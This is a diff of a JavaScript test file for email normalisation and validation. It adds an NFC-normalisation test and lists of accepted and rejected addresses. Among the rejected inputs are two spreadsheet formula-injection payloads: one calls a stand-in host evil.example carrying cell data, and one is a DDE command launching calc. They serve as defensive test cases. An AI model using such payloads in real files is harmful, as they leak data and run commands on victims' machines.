@@ -133,7 +133,38 @@ describe("emails", () => {
     expect(normalizeEmail("  Marie.Dupont@Example.COM ")).toBe("marie.dupont@example.com");
   });
 
+  it("NFC-normalises: the same address typed with a decomposed accent is the same", () => {
+    const nfd = "e\u0301loi\u0308se@exemple.fr";
+    expect(normalizeEmail(nfd)).toBe(normalizeEmail("\u00e9lo\u00efse@exemple.fr"));
+    expect(normalizeEmail(nfd)).toBe("\u00e9lo\u00efse@exemple.fr");
+  });
+
   it.each([
+    "marie.dupont@example.com",
+    "o'brien+shop@mail.example.co.uk",
+    "_x@y.fr",
+    "élodie@exemple.fr",
+  ])("accepts %j", (text) => {
+    expect(isEmailLike(text)).toBe(true);
+  });
+
+  it.each([
+    '=webservice("http://evil.example/?"&a1)@x.com',
+    "=cmd|'/c calc'!a0@x.com",
+    "+1@x.com",
+    "-x@x.com",
+    '"a b"@x.com',
+    "a@[127.0.0.1]",
+    "a@x.123",
+    "a.@x.com",
+    ".a@x.com",
+    "a@-x.com",
+    "a@x-.com",
+    "a,b@x.com",
+    "a;b@x.com",
+    "a@x_y.com",
+    "a\u0000b@x.com",
+    "x".repeat(65) + "@x.com",
     "",
     "marie",
     "marie@",
